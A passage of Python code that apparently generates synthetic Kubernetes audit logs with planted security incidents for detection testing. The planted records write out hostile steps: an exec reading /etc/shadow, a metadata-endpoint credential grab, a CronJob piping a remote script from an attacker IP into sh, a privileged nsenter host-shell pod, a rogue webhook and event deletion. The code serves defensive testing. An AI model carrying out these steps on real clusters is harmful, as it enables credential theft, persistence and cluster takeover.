                m, t, a, "Metadata", "get", _uri(f"{base}/{res}/{name}"), _oref(res, ns, name, grp)
            )

    def apply_cm(t: int, m: int, a: _Actor) -> None:
        if a.name == "intern":
            return get_res(t, m, a)
        ns, app, _ = _APPS[int(rng.random() * 5)]
        name = f"{app}-config"
        g.req(
            m,
            t,
            a,
            "Metadata",
            "patch",
            _uri(
                f"/api/v1/namespaces/{ns}/configmaps/{name}",
                "fieldManager=kubectl-client-side-apply",
            ),
            _oref("configmaps", ns, name),
        )

    return [
        (4.0, discovery),
        (9.0, list_res),
        (7.0, get_res),
        (2.5, logs),
        (0.8, watch_pods),
        (1.2, rollout),
        (2.5, crd_ops),
        (0.8, apply_cm),
    ]


# --------------------------------------------------------------------------------------------
# planted incidents
# --------------------------------------------------------------------------------------------


@dataclass
class _P:
    """One planted request (rendered through the same path as the background)."""

    incident: str
    at: str  # local time "Tue 22:47:05"
    actor: str
    verb: str
    uri: str
    oref: dict[str, str] | None
    level: str
    code: int = 200
    status: str = ""  # pre-serialized responseStatus for failures
    reqo: Any = None
    respo: Any = None
    longrun: bool = False
    ann: dict[str, str] | None = None  # None: the actor's allow annotations
    imp: dict[str, Any] | None = None
    master: int | None = None  # None: round robin
    dur_ms: int = 0


@dataclass(frozen=True)
class _Incident:
    key: str
    id: str
    description: str
    also: tuple[str, ...] = ()
    observable: bool = True


_INCIDENTS = (
    _Incident(
        "exec-shadow",
        "exec",
        "sub-account runs `sh -c 'cat /etc/shadow'` in prod/web-7d9f (SPDY, verb create)",
        ("exec-suspicious-command",),
    ),
    _Incident(
        "exec-imds",
        "exec",
        "kubernetes-admin (attributed by the RBAC reason) runs "
        "`sh -c 'curl http://169.254.169.254/...'` in prod/api-5c8b7d9f4-qz7kd "
        "(WebSocket, verb get)",
        ("exec-suspicious-command",),
    ),
    _Incident("exec-benign", "exec", "developer runs `ls -la /app` in staging (not suspicious)"),
    _Incident("attach", "attach", "ops attaches to prod/worker-6f5d8b7c9-m2xkp"),
    _Incident("portforward", "portforward", "developer port-forwards to prod/postgres-0"),
    _Incident("secret-get", "secret-read", "ops reads monitoring/grafana-admin"),
    _Incident(
        "secret-day",
        "secret-enumeration",
        "contractor reads 3 distinct prod secrets in one evening (4 gets, db-password twice)",
        ("secret-read",),
    ),
    _Incident(
        "secret-list-all",
        "secret-enumeration",
        "contractor lists secrets across all namespaces",
        ("secret-read",),
    ),
    _Incident(
        "secret-denied",
        "secret-read-denied",
        "intern is denied kube-system/aliyun-acr-credential-b (403)",
    ),
    _Incident(
        "crb-admin",
        "cluster-admin-binding",
        "contractor binds ClusterRole cluster-admin to User ops-backup",
        ("rbac-change",),
    ),
    _Incident(
        "wildcard-role",
        "wildcard-role",
        "contractor creates Role prod/deployer-all with verbs/resources `*`",
        ("rbac-change",),
    ),
    _Incident(
        "privileged-pod",
        "privileged-pod",
        "developer creates prod/debug-tools with securityContext.privileged true",
    ),
    _Incident(
        "hostpath-pod",
        "sensitive-hostpath",
        "contractor creates kube-system/node-shell-x7k2p with hostPath / and hostNetwork",
        ("host-namespaces", "kube-system-workload"),
    ),
    _Incident("nodeport", "nodeport-service", "developer exposes prod/web-debug as NodePort 30080"),
    _Incident("delete-deploy", "resource-deletion", "ops deletes deployment prod/legacy-api"),
    _Incident("delete-cm", "resource-deletion", "ops deletes configmap staging/app-config"),
    _Incident(
        "delete-ns",
        "namespace-deleted",
        "ops deletes namespace staging-old",
        ("resource-deletion",),
    ),
    _Incident(
        "delete-events",
        "events-deleted",
        "contractor deletes 3 events in prod through "
        "events.k8s.io (core /api/v1 events are level None under ACK, never logged)",
        ("resource-deletion",),
    ),
    _Incident(
        "anon-pods",
        "anonymous-allowed",
        "system:anonymous lists default pods (allowed by a bad ClusterRoleBinding)",
    ),
    _Incident(
        "scanner",
        "public-ip-failure-rate",
        f"{SCANNER_IP} (kube-hunter): 30 requests, 15x401 + 10x403 + 5 health checks",
        ("scanner-user-agent",),
    ),
    _Incident(
        "impersonate",
        "impersonation",
        "kubernetes-admin acts as system:serviceaccount:prod:deployer",
    ),
    _Incident("crd-create", "crd-operations", "contractor creates calico IPPool egress-pool"),
    _Incident(
        "crd-delete",
        "crd-operations",
        "contractor deletes calico IPPool legacy-pool",
        ("resource-deletion",),
    ),
    _Incident(
        "stolen-node",
        "system-identity-public-ip",
        f"system:node:{STOLEN_NODE} used from {STOLEN_NODE_IP}",
    ),
    _Incident(
        "token",
        "token-request",
        "contractor mints a token for prod/deployer (token logged in responseObject)",
    ),
    _Incident("csr", "csr", "contractor submits CSR ops-backup-csr"),
    _Incident(
        "webhook",
        "admission-webhook-change",
        "contractor creates MutatingWebhookConfiguration pod-policy.acme.io",
    ),
    _Incident(
        "cronjob",
        "cronjob-change",
        "contractor creates CronJob prod/db-backup (curl | sh every 30 min)",
    ),
    _Incident(
        "cm-password",
        "configmap-credentials",
        "developer creates configmap prod/app-env "
        "with `password=`; configmaps are Metadata under ACK, so the body is not logged",
        observable=False,
    ),
    _Incident(
        "can-i",
        "permission-enumeration",
        "intern runs `kubectl auth can-i --list` and `can-i create pods/exec`",
    ),
    _Incident("denied-burst", "denied-burst", "intern gets 403 on 14 distinct URIs within 4 min"),
    _Incident(
        "drift",
        "policy-drift-sensitive-body",
        "master-3 runs an old policy: 5 secret gets "
        "logged at RequestResponse with the Secret data in responseObject",
    ),
)

_PLANTED_ACTORS: dict[str, tuple[str, list[str], str, str, list[str], str]] = {
    # key: username, groups, RBAC reason (or ""), UA, sourceIPs
    "dev": (DEV_ID, ["system:authenticated"], "cs:dev", KUBECTL_DARWIN, [OFFICE_IP], DEV_ID),
    "ops": (OPS_ID, ["system:authenticated"], "cluster-admin", KUBECTL_LINUX, BASTION, OPS_ID),
    "intern": (
        INTERN_ID,
        ["system:authenticated"],
        "cs:restricted",
        KUBECTL_WINDOWS,
        INTERN_IPS,
        INTERN_ID,
    ),
    "contractor": (
        CONTRACTOR_ID,
        ["system:authenticated"],
        "cluster-admin",
        KUBECTL_LINUX,
        CONTRACTOR_IPS,
        CONTRACTOR_ID,
    ),
    "admin-contractor": (
        ADMIN,
        ADMIN_GROUPS,
        "cluster-admin",
        KUBECTL_LINUX,
        CONTRACTOR_IPS,
        CONTRACTOR_ID,
    ),
    "admin-ops": (ADMIN, ADMIN_GROUPS, "cluster-admin", KUBECTL_LINUX, BASTION, OPS_ID),
}


def _planted_actor(key: str) -> _Actor:
    if key in _PLANTED_ACTORS:
        user, groups, role, ua, ips, person = _PLANTED_ACTORS[key]
        return _human(key, user, groups, person, role, (_j(ips),), [ua])[0]
    if key == "anonymous":
        return _Actor(
            key,
            _j({"username": "system:anonymous", "groups": ["system:unauthenticated"]}),
            _j("curl/8.4.0"),
            (_j([ANON_READER_IP]),),
            _allow(
                _rbac("ClusterRoleBinding", "anonymous-view", "view", "User", "system:anonymous")
            ),
        )
    if key == "scanner":
        return _Actor(
            key,
            _j({"username": "system:anonymous", "groups": ["system:unauthenticated"]}),
            _j(SCANNER_UA),
            (_j([SCANNER_IP]),),
            _allow(
                _rbac(
                    "ClusterRoleBinding",
                    "system:public-info-viewer",
                    "system:public-info-viewer",
                    "Group",
                    "system:unauthenticated",
                )
            ),
        )
    if key == "stolen-node":
        return _Actor(
            key,
            _j({"username": f"system:node:{STOLEN_NODE}", "groups": NODE_GROUPS}),
            _j("kubectl/v1.27.4 (linux/amd64) kubernetes/fa3d799"),
            (_j([STOLEN_NODE_IP]),),
            _ALLOW_EMPTY,
        )
    if key == "cert-manager":
        return _Actor(
            key,
            _sa(
                "cert-manager",
                "cert-manager",
                "5f0c6a43-2d8e-4b7a-9c1f-3e6d8a2b4c71",
                "cert-manager-7d8b6c5f9-lk2pd",
                NODES[1],
            ),
            _j("cert-manager-certificates-issuing/v1.14.5 (linux/amd64) cert-manager/0a1b7c3"),
            (_j(["172.20.2.37"]),),
            _allow(
                _rbac(
                    "RoleBinding",
                    "cert-manager:secrets/prod",
                    "cert-manager:secrets",
                    "ServiceAccount",
                    "cert-manager/cert-manager",
                )
            ),
        )
    raise KeyError(key)


def _exec_uri(ns: str, pod: str, container: str, cmd: list[str], tty: bool = True) -> str:
    from urllib.parse import quote

    q = "&".join(f"command={quote(c, safe='')}" for c in cmd)
    q += f"&container={container}&stdin=true&stdout=true" + ("&tty=true" if tty else "&stderr=true")
    return f"/api/v1/namespaces/{ns}/pods/{pod}/exec?{q}"


def _container(name: str, image: str, **extra: Any) -> dict[str, Any]:
    d: dict[str, Any] = {"name": name, "image": image}
    d.update(extra)
    return d


def _planted() -> list[_P]:
    p: list[_P] = []
    rbac_g = "rbac.authorization.k8s.io"

    def pod_body(name: str, ns: str, spec: dict[str, Any], labels: dict[str, str]) -> Any:
        return {
            "kind": "Pod",
            "apiVersion": "v1",
            "metadata": {
                "name": name,
                "namespace": ns,
                "creationTimestamp": None,
                "labels": labels,
            },
            "spec": spec,
            "status": {},
        }

    # --- remote access -----------------------------------------------------------------------
    p.append(
        _P(
            "exec-benign",
            "Mon 10:15:42",
            "dev",
            "create",
            _exec_uri("staging", "api-7b9c4d6e8-w8hjn", "api", ["ls", "-la", "/app"]),
            {
                "resource": "pods",
                "namespace": "staging",
                "name": "api-7b9c4d6e8-w8hjn",
                "subresource": "exec",
            },
            "RequestResponse",
            101,
            longrun=True,
            dur_ms=2300,
        )
    )
    p.append(
        _P(
            "exec-shadow",
            "Tue 22:47:05",
            "contractor",
            "create",
            "/api/v1/namespaces/prod/pods/web-7d9f/exec?command=sh&command=-c&command=cat%20"
            "%2Fetc%2Fshadow&container=web&stdin=true&stdout=true&tty=true",
            {"resource": "pods", "namespace": "prod", "name": "web-7d9f", "subresource": "exec"},
            "RequestResponse",
            101,
            longrun=True,
            dur_ms=4100,
        )
    )
    p.append(
        _P(
            "exec-imds",
            "Wed 01:12:33",
            "admin-contractor",
            "get",
            _exec_uri(
                "prod",
                "api-5c8b7d9f4-qz7kd",
                "api",
                [
                    "sh",
                    "-c",
                    "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                ],
                tty=False,
            ),
            {
                "resource": "pods",
                "namespace": "prod",
                "name": "api-5c8b7d9f4-qz7kd",
                "subresource": "exec",
            },
            "Request",
            101,
            longrun=True,
            dur_ms=1800,
        )
    )
    p.append(
        _P(
            "attach",
            "Wed 11:02:10",
            "ops",
            "create",
            "/api/v1/namespaces/prod/pods/worker-6f5d8b7c9-m2xkp/attach?container=worker"
            "&stdin=true&stdout=true&tty=true",
            {
                "resource": "pods",
                "namespace": "prod",
                "name": "worker-6f5d8b7c9-m2xkp",
                "subresource": "attach",
            },
            "RequestResponse",
            101,
            longrun=True,
            dur_ms=95_000,
        )
    )
    p.append(
        _P(
            "portforward",
            "Thu 16:20:51",
            "dev",
            "create",
            "/api/v1/namespaces/prod/pods/postgres-0/portforward",
            {
                "resource": "pods",
                "namespace": "prod",
                "name": "postgres-0",
                "subresource": "portforward",
            },
            "RequestResponse",
            101,
            longrun=True,
            dur_ms=1_260_000,
        )
    )

    # --- secrets ------------------------------------------------------------------------------
    def secret_get(inc: str, at: str, actor: str, ns: str, name: str) -> _P:
        return _P(
            inc,
            at,
            actor,
            "get",
            f"/api/v1/namespaces/{ns}/secrets/{name}",
            {"resource": "secrets", "namespace": ns, "name": name},
            "Metadata",
        )

    p.append(secret_get("secret-get", "Wed 10:41:19", "ops", "monitoring", "grafana-admin"))
    for at, name in (
        ("Tue 21:58:12", "db-password"),
        ("Tue 22:01:47", "redis-auth"),
        ("Tue 22:03:05", "api-keys"),
        ("Tue 22:09:30", "db-password"),
    ):
        p.append(secret_get("secret-day", at, "contractor", "prod", name))
    p.append(
        _P(
            "secret-list-all",
            "Tue 22:05:54",
            "contractor",
            "list",
            "/api/v1/secrets?limit=500",
            {"resource": "secrets"},
            "Metadata",
        )
    )
    p.append(
        _P(
            "secret-denied",
            "Fri 09:40:03",
            "intern",
            "get",
            "/api/v1/namespaces/kube-system/secrets/aliyun-acr-credential-b",
            {"resource": "secrets", "namespace": "kube-system", "name": "aliyun-acr-credential-b"},
            "Metadata",
            403,
            _forbidden(INTERN_ID, "get", "secrets", "", "kube-system", "aliyun-acr-credential-b"),
            ann={},
        )
    )

    # --- RBAC / control plane -----------------------------------------------------------------
    crb = {
        "kind": "ClusterRoleBinding",
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": "ops-backup-admin", "creationTimestamp": None},
        "subjects": [{"kind": "User", "apiGroup": rbac_g, "name": "ops-backup"}],
        "roleRef": {"apiGroup": rbac_g, "kind": "ClusterRole", "name": "cluster-admin"},
    }
    p.append(
        _P(
            "crb-admin",
            "Tue 22:20:14",
            "contractor",
            "create",
            "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create"
            "&fieldValidation=Strict",
            {"resource": "clusterrolebindings", "name": "ops-backup-admin", "apiGroup": rbac_g},
            "RequestResponse",
            201,
            reqo=crb,
            respo="@@created",
        )
    )
    role = {
        "kind": "Role",
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": "deployer-all", "namespace": "prod", "creationTimestamp": None},
        "rules": [{"verbs": ["*"], "apiGroups": ["*"], "resources": ["*"]}],
    }
    p.append(
        _P(
            "wildcard-role",
            "Tue 22:22:40",
            "contractor",
            "create",
            "/apis/rbac.authorization.k8s.io/v1/namespaces/prod/roles?fieldManager=kubectl-create"
            "&fieldValidation=Strict",
            {"resource": "roles", "namespace": "prod", "name": "deployer-all", "apiGroup": rbac_g},
            "RequestResponse",
            201,
            reqo=role,
            respo="@@created",
        )
    )
    hook = {
        "kind": "MutatingWebhookConfiguration",
        "apiVersion": "admissionregistration.k8s.io/v1",
        "metadata": {"name": "pod-policy.acme.io", "creationTimestamp": None},
        "webhooks": [
            {
                "name": "pod-policy.acme.io",
                "clientConfig": {
                    "url": f"https://{SCANNER_IP}:8443/mutate",
                    "caBundle": "LS0tLS1CRUdJTi...",
                },
                "rules": [
                    {
                        "operations": ["CREATE"],
                        "apiGroups": [""],
                        "apiVersions": ["v1"],
                        "resources": ["pods"],
                        "scope": "*",
                    }
                ],
                "failurePolicy": "Ignore",
                "sideEffects": "None",
                "admissionReviewVersions": ["v1"],
                "reinvocationPolicy": "Never",
            }
        ],
    }
    p.append(
        _P(
            "webhook",
            "Tue 22:31:08",
            "contractor",
            "create",
            "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations"
            "?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
            {
                "resource": "mutatingwebhookconfigurations",
                "name": "pod-policy.acme.io",
                "apiGroup": "admissionregistration.k8s.io",
            },
            "RequestResponse",
            201,
            reqo=hook,
            respo="@@created",
        )
    )

    # --- workloads ----------------------------------------------------------------------------
    priv = pod_body(
        "debug-tools",
        "prod",
        {
            "containers": [
                _container(
                    "debug",
                    f"{REGISTRY}/netshoot:v0.12",
                    command=["sleep", "infinity"],
                    securityContext={"privileged": True},
                )
            ],
            "restartPolicy": "Never",
        },
        {"run": "debug-tools"},
    )
    p.append(
        _P(
            "privileged-pod",
            "Wed 15:40:27",
            "dev",
            "create",
            "/api/v1/namespaces/prod/pods?fieldManager=kubectl-run",
            {"resource": "pods", "namespace": "prod", "name": "debug-tools"},
            "RequestResponse",
            201,
            reqo=priv,
            respo="@@created",
            ann={_PSA_KEY: "privileged:latest"},
        )
    )
    shell = pod_body(
        "node-shell-x7k2p",
        "kube-system",
        {
            "volumes": [{"name": "host-root", "hostPath": {"path": "/", "type": ""}}],
            "containers": [
                _container(
                    "shell",
                    "docker.io/library/alpine:3.19",
                    command=["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"],
                    stdin=True,
                    tty=True,
                    volumeMounts=[{"name": "host-root", "mountPath": "/host"}],
                )
            ],
            "restartPolicy": "Never",
            "nodeName": NODES[3],
            "hostNetwork": True,
            "tolerations": [{"operator": "Exists"}],
        },
        {"run": "node-shell"},
    )
    p.append(
        _P(
            "hostpath-pod",
            "Tue 22:35:51",
            "contractor",
            "create",
            "/api/v1/namespaces/kube-system/pods?fieldManager=kubectl-run",
            {"resource": "pods", "namespace": "kube-system", "name": "node-shell-x7k2p"},
            "RequestResponse",
            201,
            reqo=shell,
            respo="@@created",
            ann={_PSA_KEY: "privileged:latest"},
        )
    )
    svc = {
        "kind": "Service",
        "apiVersion": "v1",
        "metadata": {
            "name": "web-debug",
            "namespace": "prod",
            "creationTimestamp": None,
            "labels": {"app": "web"},
        },
        "spec": {
            "ports": [{"protocol": "TCP", "port": 80, "targetPort": 8080, "nodePort": 30080}],
            "selector": {"app": "web"},
            "type": "NodePort",
        },
        "status": {"loadBalancer": {}},
    }
    p.append(
        _P(
            "nodeport",
            "Wed 16:05:33",
            "dev",
            "create",
            "/api/v1/namespaces/prod/services?fieldManager=kubectl-expose",
            {"resource": "services", "namespace": "prod", "name": "web-debug"},
            "RequestResponse",
            201,
            reqo=svc,
            respo="@@created",
        )
    )
    cron = {
        "kind": "CronJob",
        "apiVersion": "batch/v1",
        "metadata": {"name": "db-backup", "namespace": "prod", "creationTimestamp": None},
        "spec": {
            "schedule": "*/30 * * * *",
            "jobTemplate": {
                "metadata": {"creationTimestamp": None},
                "spec": {
                    "template": {
                        "metadata": {"creationTimestamp": None},
                        "spec": {
                            "containers": [
                                _container(
                                    "backup",
                                    "docker.io/curlimages/curl:8.5.0",
                                    command=[
                                        "sh",
                                        "-c",
                                        f"curl -fsSL http://{SCANNER_IP}/b.sh | sh",
                                    ],
                                )
                            ],
                            "restartPolicy": "OnFailure",
                        },
                    }
                },
            },
        },
        "status": {},
    }
    p.append(
        _P(
            "cronjob",
            "Tue 22:40:02",
            "contractor",
            "create",
            "/apis/batch/v1/namespaces/prod/cronjobs?fieldManager=kubectl-create"
            "&fieldValidation=Strict",
            {"resource": "cronjobs", "namespace": "prod", "name": "db-backup", "apiGroup": "batch"},
            "RequestResponse",
            201,
            reqo=cron,
            respo="@@created",
        )
    )
    p.append(
        _P(
            "cm-password",
            "Mon 11:20:48",
            "dev",
            "create",
            "/api/v1/namespaces/prod/configmaps?fieldManager=kubectl-create&fieldValidation=Strict",
            {"resource": "configmaps", "namespace": "prod", "name": "app-env"},
            "Metadata",
            201,
        )
    )

    # --- deletions ----------------------------------------------------------------------------
    bg = {"kind": "DeleteOptions", "apiVersion": "v1", "propagationPolicy": "Background"}
    p.append(
        _P(
            "delete-deploy",
            "Thu 10:30:17",
            "ops",
            "delete",
            "/apis/apps/v1/namespaces/prod/deployments/legacy-api",
            {
                "resource": "deployments",
                "namespace": "prod",
                "name": "legacy-api",
                "apiGroup": "apps",
            },
            "RequestResponse",
            reqo=bg,
            respo={
                "kind": "Status",
                "apiVersion": "v1",
                "metadata": {},
                "status": "Success",
                "details": {
                    "name": "legacy-api",
                    "group": "apps",
                    "kind": "deployments",
                    "uid": "@@uid",
                },
            },
        )
    )
    p.append(
        _P(
            "delete-cm",
            "Thu 10:32:44",
            "ops",
            "delete",
            "/api/v1/namespaces/staging/configmaps/app-config",
            {"resource": "configmaps", "namespace": "staging", "name": "app-config"},
            "Metadata",
        )
    )
    p.append(
        _P(
            "delete-ns",
            "Fri 17:45:09",
            "ops",
            "delete",
            "/api/v1/namespaces/staging-old",
            {"resource": "namespaces", "namespace": "staging-old", "name": "staging-old"},
            "RequestResponse",
            reqo=bg,
            respo={
                "kind": "Namespace",
                "apiVersion": "v1",
                "metadata": {
                    "name": "staging-old",
                    "uid": "@@uid",
                    "resourceVersion": "@@rv",
                    "creationTimestamp": "@@old",
                    "deletionTimestamp": "@@now",
                    "labels": {"kubernetes.io/metadata.name": "staging-old"},
                },
                "spec": {"finalizers": ["kubernetes"]},
                "status": {"phase": "Terminating"},
            },
        )
    )
    for at, name in (
        ("Tue 23:05:10", "web-7d9f.17f8a2c4b1d3e5f6"),
        ("Tue 23:05:11", "node-shell-x7k2p.17f8a2e90c4d1a27"),
        ("Tue 23:05:11", "db-backup.17f8a31b6e2f0c95"),
    ):
        ns = "kube-system" if name.startswith("node-shell") else "prod"
        p.append(
            _P(
                "delete-events",
                at,
                "contractor",
                "delete",
                f"/apis/events.k8s.io/v1/namespaces/{ns}/events/{name}",
                {"resource": "events", "namespace": ns, "name": name, "apiGroup": "events.k8s.io"},
                "Metadata",
            )
        )

    # --- identity and access ------------------------------------------------------------------
    for i, at in enumerate(("Sat 03:12:40", "Sat 03:12:52", "Sat 03:13:31", "Sat 03:20:05")):
        p.append(
            _P(
                "anon-pods",
                at,
                "anonymous",
                "list",
                "/api/v1/namespaces/default/pods" + ("" if i else "?limit=500"),
                {"resource": "pods", "namespace": "default"},
                "Request",
            )
        )
    scan_401 = [
        "/api/v1/namespaces/kube-system/pods",
        "/api/v1/nodes",
        "/api/v1/namespaces",
        "/apis/apps/v1/deployments",
        "/api/v1/configmaps",
        "/apis",
        "/api",
        "/api/v1/pods",
        "/apis/rbac.authorization.k8s.io/v1/clusterroles",
        "/api/v1/services",
        "/apis/batch/v1/cronjobs",
        "/api/v1/serviceaccounts",
        "/apis/networking.k8s.io/v1/ingresses",
        "/api/v1/persistentvolumes",
        "/api/v1/namespaces/default/pods",
    ]
    scan_403 = [
        "/api/v1/namespaces/kube-system/pods",
        "/api/v1/nodes",
        "/api/v1/namespaces",
        "/apis/apps/v1/deployments",
        "/api/v1/pods",
        "/apis",
        "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
        "/metrics",
        "/api/v1/namespaces/kube-system/configmaps",
        "/openapi/v2",
    ]
    health = ["/readyz", "/livez", "/readyz", "/livez", "/readyz"]
    it401, it403 = iter(scan_401), iter(scan_403)
    order = "H111133H1111333H1111333H11133H"  # 5 health checks, 15 x 401, 10 x 403
    seq: list[tuple[str, int]] = []
    hi = 0
    for c in order:
        if c == "H":
            seq.append((health[hi], 200))
            hi += 1
        elif c == "1":
            seq.append((next(it401), 401))
        else:
            seq.append((next(it403), 403))
    for i, (path, code) in enumerate(seq):
        sec = 24 * i + (i * 7) % 11
        at = f"Sun 04:{10 + sec // 60:02d}:{sec % 60:02d}"
        o = _res_of(path)
        p.append(
            _P(
                "scanner",
                at,
                "scanner",
                "list" if o else "get",
                path,
                o,
                "Metadata" if o is None or o["resource"] == "configmaps" else "Request",
                code,
            )
        )

    imp = {
        "username": "system:serviceaccount:prod:deployer",
        "groups": ["system:serviceaccounts", "system:serviceaccounts:prod", "system:authenticated"],
    }
    imp_ann = {
        "authorization.k8s.io/reason": _rbac(
            "RoleBinding", "deployer/prod", "edit", "ServiceAccount", "deployer/prod"
        )
    }
    p.append(
        _P(
            "impersonate",
            "Wed 14:10:03",
            "admin-ops",
            "list",
            "/api/v1/namespaces/prod/pods?limit=500",
            {"resource": "pods", "namespace": "prod"},
            "Request",
            imp=imp,
            ann=imp_ann,
        )
    )
    p.append(
        _P(
            "impersonate",
            "Wed 14:10:21",
            "admin-ops",
            "get",
            "/apis/apps/v1/namespaces/prod/deployments/web",
            {"resource": "deployments", "namespace": "prod", "name": "web", "apiGroup": "apps"},
            "Request",
            imp=imp,
            ann=imp_ann,
        )
    )
    p.append(
        _P(
            "impersonate",
            "Wed 14:11:02",
            "admin-ops",
            "patch",
            "/apis/apps/v1/namespaces/prod/deployments/web?fieldManager=kubectl-set",
            {"resource": "deployments", "namespace": "prod", "name": "web", "apiGroup": "apps"},
            "RequestResponse",
            imp=imp,
            ann=imp_ann,
            reqo={
                "spec": {
                    "template": {
                        "spec": {
                            "containers": [
                                {
                                    "name": "web",
                                    "image": f"{REGISTRY}/web:2.15.0",
                                }
                            ]
                        }
                    }
                }
            },
            respo="@@patched-deploy",
        )
    )
    p.append(
        _P(
            "can-i",
            "Thu 15:05:12",
            "intern",
            "create",
            "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
            {"resource": "selfsubjectrulesreviews", "apiGroup": "authorization.k8s.io"},
            "RequestResponse",
            201,
            reqo={
                "kind": "SelfSubjectRulesReview",
                "apiVersion": "authorization.k8s.io/v1",
                "metadata": {"creationTimestamp": None},
                "spec": {"namespace": "staging"},
                "status": {"resourceRules": None, "nonResourceRules": None, "incomplete": False},
            },
            respo={
                "kind": "SelfSubjectRulesReview",
                "apiVersion": "authorization.k8s.io/v1",
                "metadata": {"creationTimestamp": None},
                "spec": {"namespace": "staging"},
                "status": {
                    "resourceRules": [
                        {
                            "verbs": ["get", "list", "watch"],
                            "apiGroups": ["", "apps", "batch"],
                            "resources": [
                                "pods",
                                "pods/log",
                                "deployments",
                                "jobs",
                                "services",
                                "configmaps",
                            ],
                        },
                        {
                            "verbs": ["create"],
                            "apiGroups": ["authorization.k8s.io"],
                            "resources": ["selfsubjectaccessreviews", "selfsubjectrulesreviews"],
                        },
                    ],
                    "nonResourceRules": [
                        {
                            "verbs": ["get"],
                            "nonResourceURLs": [
                                "/api",
                                "/api/*",
                                "/apis",
                                "/apis/*",
                                "/healthz",
                                "/livez",
                                "/openapi",
                                "/openapi/*",
                                "/readyz",
                                "/version",
                                "/version/",
                            ],
                        }
                    ],
                    "incomplete": False,
                },
            },
        )
    )
    p.append(
        _P(
            "can-i",
            "Thu 15:06:40",
            "intern",
            "create",
            "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews",
            {"resource": "selfsubjectaccessreviews", "apiGroup": "authorization.k8s.io"},
            "RequestResponse",
            201,
            reqo={
                "kind": "SelfSubjectAccessReview",
                "apiVersion": "authorization.k8s.io/v1",
                "metadata": {"creationTimestamp": None},
                "spec": {
                    "resourceAttributes": {
                        "namespace": "prod",
                        "verb": "create",
                        "resource": "pods",
                        "subresource": "exec",
                    }
                },
                "status": {"allowed": False},
            },
            respo={
                "kind": "SelfSubjectAccessReview",
                "apiVersion": "authorization.k8s.io/v1",
                "metadata": {"creationTimestamp": None},
                "spec": {
                    "resourceAttributes": {
                        "namespace": "prod",
                        "verb": "create",
                        "resource": "pods",
                        "subresource": "exec",
                    }
                },
                "status": {"allowed": False},
            },
        )
    )
    burst = [
        ("", "pods", "prod"),
        ("", "pods", "kube-system"),
        ("apps", "deployments", "prod"),
        ("", "nodes", ""),
        ("", "namespaces", ""),
        ("", "serviceaccounts", "prod"),
        ("rbac.authorization.k8s.io", "roles", "prod"),
        ("rbac.authorization.k8s.io", "clusterroles", ""),
        ("rbac.authorization.k8s.io", "clusterrolebindings", ""),
        ("networking.k8s.io", "networkpolicies", "prod"),
        ("batch", "cronjobs", "prod"),
        ("", "persistentvolumes", ""),
        ("apps", "daemonsets", "kube-system"),
        ("", "configmaps", "kube-system"),
    ]
    for i, (grp, res, ns) in enumerate(burst):
        base = f"/apis/{grp}/v1" if grp else "/api/v1"
        path = f"{base}/namespaces/{ns}/{res}" if ns else f"{base}/{res}"
        lvl = "Metadata" if res == "configmaps" else "Request"
        o = {"resource": res}
        if ns:
            o["namespace"] = ns
        if grp:
            o["apiGroup"] = grp
        s = 8 * 60 + 17 * i
        p.append(
            _P(
                "denied-burst",
                f"Thu 15:{s // 60:02d}:{s % 60:02d}",
                "intern",
                "list",
                f"{path}?limit=500",
                o,
                lvl,
                403,
                _forbidden(INTERN_ID, "list", res, grp, ns),
                ann={},
            )
        )

    # --- CRDs ---------------------------------------------------------------------------------
    p.append(
        _P(
            "crd-create",
            "Tue 22:44:30",
            "contractor",
            "create",
            "/apis/crd.projectcalico.org/v1/ippools?fieldManager=kubectl-client-side-apply"
            "&fieldValidation=Strict",
            {"resource": "ippools", "name": "egress-pool", "apiGroup": "crd.projectcalico.org"},
            "Metadata",
            201,
        )
    )
    p.append(
        _P(
            "crd-delete",
            "Tue 22:45:02",
            "contractor",
            "delete",
            "/apis/crd.projectcalico.org/v1/ippools/legacy-pool",
            {"resource": "ippools", "name": "legacy-pool", "apiGroup": "crd.projectcalico.org"},
            "Metadata",
        )
    )

    # --- stolen node credential, token, CSR ---------------------------------------------------
    for at, path, verb, o in (
        ("Sat 02:40:18", "/api/v1/pods?limit=500", "list", {"resource": "pods"}),
        ("Sat 02:40:41", "/api/v1/services?limit=500", "list", {"resource": "services"}),
        (
            "Sat 02:41:09",
            "/api/v1/namespaces/kube-system/pods/metrics-server-7f8d5b9c64-t4wkz",
            "get",
            {
                "resource": "pods",
                "namespace": "kube-system",
                "name": "metrics-server-7f8d5b9c64-t4wkz",
            },
        ),
    ):
        p.append(_P("stolen-node", at, "stolen-node", verb, path, o, "Request"))
    tr_req = {
        "kind": "TokenRequest",
        "apiVersion": "authentication.k8s.io/v1",
        "metadata": {"creationTimestamp": None},
        "spec": {"audiences": None, "expirationSeconds": 31536000, "boundObjectRef": None},
        "status": {"token": "", "expirationTimestamp": None},
    }
    p.append(
        _P(
            "token",
            "Tue 22:25:37",
            "contractor",
            "create",
            "/api/v1/namespaces/prod/serviceaccounts/deployer/token",
            {
                "resource": "serviceaccounts",
                "namespace": "prod",
                "name": "deployer",
                "subresource": "token",
            },
            "RequestResponse",
            201,
            reqo=tr_req,
            respo="@@token",
        )
    )
    csr = {
        "kind": "CertificateSigningRequest",
        "apiVersion": "certificates.k8s.io/v1",
        "metadata": {"name": "ops-backup-csr", "creationTimestamp": None},
        "spec": {
            "request": "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlJQ1dqQ0NBVUlDQVFB"
            "d0ZURVRNQkVHQTFVRUF3d0tiM0J6TFdKaFkydDFjREND",
            "signerName": "kubernetes.io/kube-apiserver-client",
            "expirationSeconds": 31536000,
            "usages": ["client auth"],
        },
        "status": {},
    }
    p.append(
        _P(
            "csr",
            "Tue 22:27:55",
            "contractor",
            "create",
            "/apis/certificates.k8s.io/v1/certificatesigningrequests?fieldManager=kubectl-client-side-apply"
            "&fieldValidation=Strict",
            {
                "resource": "certificatesigningrequests",
                "name": "ops-backup-csr",
